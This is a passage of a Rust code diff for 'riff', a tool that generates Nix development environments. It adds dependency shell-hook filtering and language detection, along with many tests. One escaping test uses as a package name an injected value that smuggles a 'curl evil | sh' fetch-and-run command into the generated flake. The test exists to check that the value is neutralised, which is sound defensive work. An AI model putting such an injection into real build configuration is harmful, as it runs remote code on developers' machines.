+                    "{warning} Ignoring the `{shell_hook}` of `{name}`; only the project's own crates can run code when the environment activates.",
+                    warning = "⚠️".yellow(),
+                    shell_hook = "shell-hook".cyan(),
+                    name = name.cyan(),
+                );
+            }
+            if !workspace_package && dep_config.remove_flake_inputs() {
+                eprintln!(
+                    "{warning} Ignoring the `{flake_inputs}` and `{overlays}` of `{name}`; only the project's own crates can add flakes to the environment.",
+                    warning = "⚠️".yellow(),
+                    flake_inputs = "flake-inputs".cyan(),
+                    overlays = "overlays".cyan(),
+                    name = name.cyan(),
+                );
+            }
+
             tracing::debug!(
                 package = %name,
                 "build-inputs" = %dep_config.build_inputs().iter().join(", "),
@@ -176,10 +855,72 @@ impl<'a> DevEnvironment<'a> {
             dep_config.apply(self);
         }
 
+        if !unknown_sys_crates.is_empty() {
+            eprintln!(
+                "{warning} riff doesn't know the native inputs of these `-sys` crates, so building them may fail:",
+                warning = "⚠️".yellow(),
+            );
+            for package in unknown_sys_crates {
+                let suggestions = sys_heuristic::suggest(package);
+                match suggestions.is_empty() {
+                    true => eprintln!("  {}", package.name.cyan()),
+                    false => eprintln!(
+                        "  {} (maybe {})",
+                        package.name.cyan(),
+                        suggestions
+                            .iter()
+                            .map(|attribute| format!("`{}`", attribute.cyan()))
+                            .join(" or ")
+                    ),
+                }
+            }
+            eprintln!(
+                "Declare what they need with `{riff_add}`.",
+                riff_add = "riff add <package>".cyan(),
+            );
+        }
+    }
+
+    /// Add the inputs and environment variables of a language specific environment
+    fn merge(&mut self, other: DevEnvironment) {
+        if other.project_package.is_some() {
+            self.project_package = other.project_package;
+        }
+        self.build_inputs.extend(other.build_inputs);
+        self.runtime_inputs.extend(other.runtime_inputs);
+        self.darwin_frameworks.extend(other.darwin_frameworks);
+        for (platform, build_inputs) in other.platform_build_inputs {
+            self.platform_build_inputs
+                .entry(platform)
+                .or_default()
+                .extend(build_inputs);
+        }
+        self.applied_rules += other.applied_rules;
+        self.registry_rules.extend(other.registry_rules);
+        for shell_hook in &other.shell_hooks {
+            self.add_shell_hook(shell_hook);
+        }
+        for (env_key, env_val) in other.environment_variables {
+            if let Some(existing_value) = self
+                .environment_variables
+                .insert(env_key.clone(), env_val.clone())
+            {
+                tracing::debug!(
+                    key = env_key,
+                    existing_value,
+                    new_value = env_val,
+                    "Overriding previously declared environment variable"
+                )
+            }
+        }
+    }
+
+    /// Print the inputs and environment variables found for `lang`
+    pub(crate) fn print_summary(&self, lang: impl std::fmt::Display) {
         eprintln!(
             "{check} {lang}: {colored_inputs}{maybe_colored_envs}",
             check = "✓".green(),
-            lang = "🦀 rust".bold().red(),
+            lang = lang,
             colored_inputs = {
                 let mut sorted_build_inputs = self
                     .build_inputs
@@ -208,7 +949,41 @@ impl<'a> DevEnvironment<'a> {
                 }
             }
         );
+    }
+}
+
+impl<'a> DevEnvironment<'a> {
+    /// Print how much the whole environment has, after the lines of each language
+    fn print_totals(&self) {
+        let inputs = self.build_inputs.union(&self.runtime_inputs).count();
+        eprintln!(
+            "{check} {label}: {inputs} inputs and {variables} environment variables for {languages} languages, from {rules} rules",
+            check = "✓".green(),
+            label = "Σ total".bold(),
+            inputs = inputs.cyan(),
+            variables = self.environment_variables.len().green(),
+            languages = self.language_summaries.len(),
+            rules = self.applied_rules,
+        );
+    }
 
+    #[tracing::instrument(skip_all, fields(project_dir = %project_dir.display()))]
+    async fn add_deps_from_task_runners(&mut self, project_dir: &Path) -> color_eyre::Result<()> {
+        tracing::debug!("Adding task runner tools...");
+        let tools = task_runner::detect_required_tools(project_dir)
+            .await
+            .wrap_err("Could not read task runner files")?;
+        if tools.is_empty() {
+            return Ok(());
+        }
+
+        eprintln!(
+            "{check} {label}: {colored_inputs}",
+            check = "✓".green(),
+            label = "🛠️ task runners".bold(),
+            colored_inputs = tools.iter().map(|v| v.cyan()).join(", "),
+        );
+        self.build_inputs.extend(tools);
         Ok(())
     }
 }
@@ -220,6 +995,7 @@ pub(crate) trait DevEnvironmentAppliable {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::julia_project;
     use tempfile::TempDir;
     use tokio::fs::write;
 
@@ -227,9 +1003,9 @@ mod tests {
     async fn dev_env_to_flake() -> eyre::Result<()> {
         let cache_dir = TempDir::new()?;
         std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
-        let registry = DependencyRegistry::new(true).await?;
+        let registry = DependencyRegistry::new(true, None).await?;
         let dev_env = DevEnvironment {
-            build_inputs: ["cargo", "hello"]
+            build_inputs: ["cargo", "hello", "llvmPackages_15.libclang"]
                 .into_iter()
                 .map(ToString::to_string)
                 .collect(),
@@ -237,11 +1013,46 @@ mod tests {
                 .into_iter()
                 .map(|(k, v)| (k.to_string(), v.to_string()))
                 .collect(),
-            runtime_inputs: ["nix", "libGL"]
+            runtime_inputs: ["nix", "libGL", "xorg.libX11"]
                 .into_iter()
                 .map(ToString::to_string)
                 .collect(),
-            detected_languages: vec![DetectedLanguage::Rust].into_iter().collect(),
+            darwin_frameworks: ["Security".to_string()].into_iter().collect(),
+            platform_build_inputs: [(
+                "linux".to_string(),
+                ["alsa-lib".to_string()].into_iter().collect(),
+            )]
+            .into_iter()
+            .collect(),
+            shell_hooks: vec![
+                "export CACHE_DIR=\"${XDG_CACHE_HOME:-$HOME/.cache}/riff-test\"".to_string(),
+            ],
+            flake_inputs: [(
+                "fenix".to_string(),
+                "github:nix-community/fenix".to_string(),
+            )]
+            .into_iter()
+            .collect(),
+            overlays: ["fenix.overlays.default".to_string()].into_iter().collect(),
+            detected_languages: vec!["Rust"].into_iter().collect(),
+            language_summaries: Default::default(),
+            applied_rules: 0,
+            registry_rules: Default::default(),
+            project_package: None,
+            detect_task_runner_tools: false,
+            base_shell: None,
+            layer_existing_nix: false,
+            cargo_metadata_snapshot: None,
+            nixpkgs_url: None,
+            telemetry_disabled: false,
+            sys_heuristics: false,
+            conservative: false,
+            no_dev: false,
+            no_build_deps: false,
+            strict_detect: false,
+            impure_build: false,
+            builder: RustBuilder::default(),
+            target: None,
             registry: &registry,
         };
 
@@ -256,7 +1067,716 @@ mod tests {
             flake.contains(r#""LD_LIBRARY_PATH" = "#)
                 && flake.contains("${lib.getLib nix}/lib")
                 && flake.contains("${lib.getLib libGL}/lib")
+                && flake.contains("${lib.getLib xorg.libX11}/lib")
         );
+        assert!(flake.contains(" llvmPackages_15.libclang"));
+        assert!(flake.contains(
+            "lib.optionals (stdenv.isDarwin) [\n              libiconv darwin.apple_sdk.frameworks.Security\n"
+        ));
+        assert!(flake.contains("] ++ lib.optionals (stdenv.isLinux) [ alsa-lib ];"));
+        assert!(flake.contains(
+            "\n  inputs.fenix.url = \"github:nix-community/fenix\";\n  inputs.fenix.inputs.nixpkgs.follows = \"nixpkgs\";\n"
+        ));
+        assert!(flake.contains(
+            "pkgs = import nixpkgs { inherit system; overlays = [ inputs.fenix.overlays.default ]; };"
+        ));
+        // `riff run --expand` finds packages in the same package set
+        assert!(flake.contains("legacyPackages = forAllSystems ({ pkgs, ... }: pkgs);"));
+        assert!(flake.contains(
+            "shellHook = ''\nexport CACHE_DIR=\"''${XDG_CACHE_HOME:-$HOME/.cache}/riff-test\"\n'';"
+        ));
+
+        let shell_nix = dev_env.to_shell_nix();
+        assert!(shell_nix.contains(
+            "import (builtins.fetchTarball \"https://github.com/NixOS/nixpkgs/archive/nixos-unstable.tar.gz\")"
+        ));
+        assert!(shell_nix.contains(r#""HELLO" = "WORLD""#));
+        assert!(shell_nix.contains("${lib.getLib libGL}/lib"));
+        assert!(shell_nix.contains("shellHook = ''"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn dev_env_to_flake_escapes_values() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.build_inputs.extend([
+            "openssl".to_string(),
+            "hello ]; shellHook = \"curl evil | sh\"; x = [".to_string(),
+        ]);
+        dev_env
+            .runtime_inputs
+            .insert("libGL}\"; y = \"".to_string());
+        dev_env.environment_variables.extend(
+            [
+                ("QUOTED", r#"say "hi"; exit"#),
+                ("WINDOWS", r"C:\Users\riff"),
+                ("UNCLOSED", "${HOME"),
+                ("LITERAL", "$${HOME}"),
+                ("PYTHON", "${python3}/bin/python3"),
+                ("BAD\" = \"NAME", "x"),
+            ]
+            .into_iter()
+            .map(|(k, v)| (k.to_string(), v.to_string())),
+        );
+
+        let flake = dev_env.to_flake();
+        assert!(flake.contains("openssl"));
+        assert!(flake.contains(r#"pkgs."hello ]; shellHook = \"curl evil | sh\"; x = [""#));
+        assert!(flake.contains(r#"${lib.getLib pkgs."libGL}\"; y = \""}/lib"#));
+        assert!(flake.contains(r#""QUOTED" = "say \"hi\"; exit";"#));
+        assert!(flake.contains(r#""WINDOWS" = "C:\\Users\\riff";"#));
+        assert!(flake.contains(r#""UNCLOSED" = "\${HOME";"#));
+        assert!(flake.contains(r#""LITERAL" = "$${HOME}";"#));
+        assert!(flake.contains(r#""PYTHON" = "${python3}/bin/python3";"#));
+        assert!(flake.contains(r#""BAD\" = \"NAME" = "x";"#));
+        assert!(!flake.contains("shellHook = ''"));
+
+        let oci_flake = dev_env.to_oci_flake("riff \"test\"", None);
+        assert!(oci_flake.contains(r#"name = "riff \"test\"";"#));
+        assert!(oci_flake.contains(r#""QUOTED=say \"hi\"; exit""#));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_node_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("package.json"),
+            r#"{
+                "name": "riff-test",
+                "dependencies": { "sharp": "^0.31.0" },
+                "riff": { "environment-variables": { "HI": "BYE" } }
+            }"#,
+        )
+        .await?;
+        write(project_dir.path().join("yarn.lock"), "").await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Node"].into_iter().collect());
+        for input in ["nodejs", "vips", "yarn"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        assert_eq!(
+            dev_env.environment_variables.get("HI").map(String::as_str),
+            Some("BYE")
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_python_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("requirements.txt"),
+            "lxml>=4.9\npsycopg2\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Python"].into_iter().collect());
+        for input in ["python3", "libxml2", "libxslt", "postgresql"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_go_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("go.mod"),
+            "module example.com/riff-test\n\nrequire github.com/libgit2/git2go/v34 v34.0.0\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Go"].into_iter().collect());
+        for input in ["go", "libgit2"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        assert_eq!(
+            dev_env
+                .environment_variables
+                .get("CGO_ENABLED")
+                .map(String::as_str),
+            Some("1")
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_ruby_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(project_dir.path().join("Gemfile"), "gem \"pg\"\n").await?;
+        write(
+            project_dir.path().join("Gemfile.lock"),
+            "GEM\n  specs:\n    nokogiri (1.13.8)\n    pg (1.4.3)\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Ruby"].into_iter().collect());
+        for input in ["ruby", "bundler", "postgresql", "libxml2"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_cmake_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("CMakeLists.txt"),
+            "project(riff-test)\nfind_package(OpenSSL REQUIRED)\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Cpp"].into_iter().collect());
+        for input in ["cmake", "stdenv.cc", "openssl"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_ocaml_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("riff_test.opam"),
+            "opam-version: \"2.0\"\ndepends: [\"zarith\" \"ctypes-foreign\" {>= \"0.18\"}]\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["OCaml"].into_iter().collect());
+        for input in ["ocaml", "dune_3", "opam", "gmp", "libffi"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_swift_package() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("Package.swift"),
+            r#"let package = Package(
+                name: "RiffTest",
+                targets: [.systemLibrary(name: "CSQLite", pkgConfig: "sqlite3")]
+            )"#,
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Swift"].into_iter().collect());
+        for input in ["swift", "swiftpm", "sqlite"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_lua_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("riff-test-0.1-1.rockspec"),
+            "dependencies = { \"lua >= 5.1\", \"luasec\" }\n\
+             external_dependencies = { ZLIB = { library = \"z\" } }\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Lua"].into_iter().collect());
+        for input in ["lua", "luarocks", "openssl", "zlib"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+
+        let plugin_dir = TempDir::new()?;
+        write(
+            plugin_dir.path().join("lazy-lock.json"),
+            r#"{"telescope-fzf-native.nvim": {"branch": "main", "commit": "6c921ca"}}"#,
+        )
+        .await?;
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(plugin_dir.path()).await?;
+        for input in ["luajit", "neovim", "gnumake"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_julia_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("Project.toml"),
+            "[deps]\nPyCall = \"438e738f-606a-5dbb-bf0a-cddfbfd45ab0\"\n",
+        )
+        .await?;
+        write(
+            project_dir.path().join("riff.toml"),
+            "isolate-julia-depot = true\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Julia"].into_iter().collect());
+        for input in ["julia", "python3"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        assert!(dev_env.environment_variables.contains_key("PYTHON"));
+        assert_eq!(dev_env.shell_hooks, [julia_project::ISOLATED_DEPOT_HOOK]);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_nim_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("riff_test.nimble"),
+            "requires \"nim >= 1.6.0\", \"tiny_sqlite\"\nforeignDep \"zlib\"\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Nim"].into_iter().collect());
+        for input in ["nim", "nimble", "zlib"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        assert!(dev_env.runtime_inputs.contains("sqlite"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_crystal_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("shard.yml"),
+            "name: riff-test\n\
+             dependencies:\n  crsfml:\n    github: oprypin/crsfml\n\
+             libraries:\n  libsqlite3: \"*\"\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(
+            dev_env.detected_languages,
+            ["Crystal"].into_iter().collect()
+        );
+        for input in ["crystal", "shards", "sfml", "sqlite"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn language_summaries() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("riff-test-0.1-1.rockspec"),
+            "dependencies = { \"luasec\", \"lsqlite3\" }\n",
+        )
+        .await?;
+        write(
+            project_dir.path().join("shard.yml"),
+            "name: riff-test\ndependencies:\n  crsfml:\n    github: oprypin/crsfml\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        let summaries = dev_env
+            .language_summaries
+            .iter()
+            .map(|summary| (summary.language, summary.rules))
+            .collect::<Vec<_>>();
+        assert_eq!(summaries, [("Lua", 2), ("Crystal", 1)]);
+        assert!(dev_env.language_summaries[1].build_inputs.contains("sfml"));
+        assert!(!dev_env.language_summaries[1]
+            .build_inputs
+            .contains("openssl"));
+        assert_eq!(dev_env.applied_rules, 3);
+        assert_eq!(dev_env.registry_rules.len(), 3);
+        assert!(dev_env.registry_rules.contains_key("crystal/crsfml"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn detect_bazel_project() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(
+            project_dir.path().join("MODULE.bazel"),
+            "module(name = \"riff-test\")\n",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Bazel"].into_iter().collect());
+        for input in ["bazelisk", "python3", "jdk", "stdenv.cc"] {
+            assert!(dev_env.build_inputs.contains(input), "missing {input}");
+        }
+        assert_eq!(
+            dev_env.environment_variables.get("CC").map(String::as_str),
+            Some("${stdenv.cc}/bin/cc")
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn replay_cargo_metadata_snapshot() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        let snapshot = project_dir.path().join("snapshot.json");
+        write(
+            &snapshot,
+            r#"{
+                "metadata": {
+                    "packages": [
+                        {"name": "riff-test", "id": "riff-test", "version": "0.1.0", "manifest_path": "$WORKSPACE/Cargo.toml"},
+                        {"name": "libsqlite3-sys", "id": "libsqlite3-sys"}
+                    ],
+                    "resolve": {"root": "riff-test"}
+                },
+                "expect": {}
+            }"#,
+        )
+        .await?;
+
+        // There is no `Cargo.toml` for `cargo metadata` to read
+        let mut dev_env =
+            DevEnvironment::new(&registry).with_cargo_metadata_snapshot(Some(snapshot));
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.detected_languages, ["Rust"].into_iter().collect());
+        assert!(dev_env.build_inputs.contains("sqlite"));
+        assert_eq!(
+            dev_env.project_package,
+            Some(ProjectPackage {
+                name: "riff-test".to_string(),
+                version: "0.1.0".to_string()
+            })
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn feature_conditioned_rules() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        let snapshot = project_dir.path().join("snapshot.json");
+        write(
+            &snapshot,
+            r#"{
+                "packages": [
+                    {"name": "riff-test", "id": "riff-test", "manifest_path": "$WORKSPACE/Cargo.toml"},
+                    {"name": "libgit2-sys", "id": "libgit2-sys"}
+                ],
+                "resolve": {
+                    "root": "riff-test",
+                    "nodes": [
+                        {"id": "riff-test", "features": []},
+                        {"id": "libgit2-sys", "features": ["https"]}
+                    ]
+                }
+            }"#,
+        )
+        .await?;
+
+        let mut dev_env =
+            DevEnvironment::new(&registry).with_cargo_metadata_snapshot(Some(snapshot));
+        dev_env.detect(project_dir.path()).await?;
+        assert!(dev_env.build_inputs.contains("libgit2"));
+        assert!(dev_env.build_inputs.contains("openssl"));
+        assert!(!dev_env.build_inputs.contains("libssh2"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn workspace_metadata() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let metadata: CargoMetadata = serde_json::from_str(
+            r#"{
+                "packages": [
+                    {"name": "member", "metadata": {"riff": {"environment-variables": {"GREETING": "member"}}}}
+                ],
+                "resolve": null,
+                "metadata": {
+                    "riff": {
+                        "build-inputs": ["protobuf"],
+                        "environment-variables": {"GREETING": "workspace", "SHARED": "1"}
+                    }
+                }
+            }"#,
+        )?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.add_deps_from_cargo_metadata(metadata, None).await;
+        assert!(dev_env.build_inputs.contains("protobuf"));
+        assert_eq!(
+            dev_env
+                .environment_variables
+                .get("SHARED")
+                .map(String::as_str),
+            Some("1")
+        );
+        assert_eq!(
+            dev_env
+                .environment_variables
+                .get("GREETING")
+                .map(String::as_str),
+            Some("member"),
+            "members override the workspace"
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn sys_heuristics() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let metadata = r#"{
+            "packages": [
+                {"name": "riff-test-sys", "links": "sodium", "metadata": null},
+                {"name": "declared-sys", "links": "z", "metadata": {"riff": {"build-inputs": ["zlib-ng"]}}}
+            ],
+            "resolve": null
+        }"#;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env
+            .add_deps_from_cargo_metadata(serde_json::from_str(metadata)?, None)
+            .await;
+        assert!(!dev_env.build_inputs.contains("libsodium"));
+
+        let mut dev_env = DevEnvironment::new(&registry).with_sys_heuristics(true);
+        dev_env
+            .add_deps_from_cargo_metadata(serde_json::from_str(metadata)?, None)
+            .await;
+        assert!(dev_env.build_inputs.contains("libsodium"));
+        assert!(dev_env.build_inputs.contains("zlib-ng"));
+        assert!(
+            !dev_env.build_inputs.contains("zlib"),
+            "crates which declare their inputs are not guessed"
+        );
+
+        let mut dev_env = DevEnvironment::new(&registry)
+            .with_sys_heuristics(true)
+            .with_conservative(true);
+        dev_env
+            .add_deps_from_cargo_metadata(serde_json::from_str(metadata)?, None)
+            .await;
+        assert!(!dev_env.build_inputs.contains("libsodium"));
+        assert!(dev_env.build_inputs.contains("zlib-ng"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn layer_existing_shell_nix() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let project_dir = TempDir::new()?;
+        write(project_dir.path().join("requirements.txt"), "").await?;
+        write(
+            project_dir.path().join("shell.nix"),
+            "{ pkgs ? import <nixpkgs> { } }: pkgs.mkShell { }",
+        )
+        .await?;
+
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.detect(project_dir.path()).await?;
+        assert_eq!(dev_env.base_shell, None);
+        assert!(!dev_env.to_flake().contains("shell.nix"));
+
+        let mut dev_env = DevEnvironment::new(&registry).with_existing_nix(true);
+        dev_env.detect(project_dir.path()).await?;
+        let shell_nix = project_dir.path().canonicalize()?.join("shell.nix");
+        assert_eq!(dev_env.base_shell.as_ref(), Some(&shell_nix));
+        let flake = dev_env.to_flake();
+        assert!(flake.contains(&format!(r#"import (/. + "{}")"#, shell_nix.display())));
+        assert!(flake.contains("(builtins.functionArgs base) ? pkgs then { inherit pkgs; }"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn dev_env_to_buildable_flake() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.build_inputs.insert("openssl".to_string());
+        assert!(dev_env
+            .to_buildable_flake(Some(RustBuilder::BuildRustPackage))
+            .is_err());
+        assert!(!dev_env.to_flake().contains("packages"));
+        dev_env.detected_languages.insert("Rust");
+        let err = dev_env
+            .to_buildable_flake(Some(RustBuilder::BuildRustPackage))
+            .unwrap_err();
+        assert!(err.to_string().contains("without a package at its root"));
+
+        dev_env.project_package = Some(ProjectPackage {
+            name: "riff-test".to_string(),
+            version: "0.1.0".to_string(),
+        });
+        let flake = dev_env.to_buildable_flake(Some(RustBuilder::BuildRustPackage))?;
+        assert!(flake.contains("rustPlatform.buildRustPackage"));
+        assert!(flake.contains(r#"pname = "riff-test";"#));
+        assert!(flake.contains(r#"version = "0.1.0";"#));
+        assert!(flake.contains("openssl"));
+        assert!(flake.contains("devShells"));
+        assert!(!flake.contains("inputs.crane"));
+        assert!(!flake.contains("runtimeDependencies"));
+
+        dev_env.build_inputs.insert("pkg-config".to_string());
+        dev_env.runtime_inputs.insert("libGL".to_string());
+        let flake = dev_env.to_buildable_flake(Some(RustBuilder::BuildRustPackage))?;
+        assert!(
+            flake.contains(
+                "nativeBuildInputs = [\n              pkg-config\n            ] ++ lib.optionals (stdenv.isLinux) [ autoPatchelfHook ];"
+            ),
+            "{flake}"
+        );
+        assert!(
+            flake.contains("buildInputs = [\n              libGL openssl\n            ]"),
+            "{flake}"
+        );
+        assert!(
+            flake.contains("runtimeDependencies = [ libGL ];"),
+            "{flake}"
+        );
+
+        let flake = dev_env.to_buildable_flake(Some(RustBuilder::Crane))?;
+        assert!(flake.contains(r#"inputs.crane.url = "github:ipetkov/crane";"#));
+        assert!(flake.contains("craneLib.buildPackage"));
+        assert!(flake.contains("src = craneLib.cleanCargoSource ./.;"));
+        assert!(flake.contains("runtimeDependencies = [ libGL ];"));
+        assert!(!flake.contains("cargoLock"));
+
+        // Without `--builder`, the one from `riff.toml`
+        dev_env.builder = RustBuilder::Naersk;
+        let flake = dev_env.to_buildable_flake(None)?;
+        assert!(flake.contains(r#"inputs.naersk.url = "github:nix-community/naersk";"#));
+        assert!(flake.contains("(callPackage inputs.naersk { }).buildPackage"));
+        assert!(flake.contains("nativeBuildInputs = ["));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn dev_env_to_oci_flake() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.build_inputs.insert("openssl".to_string());
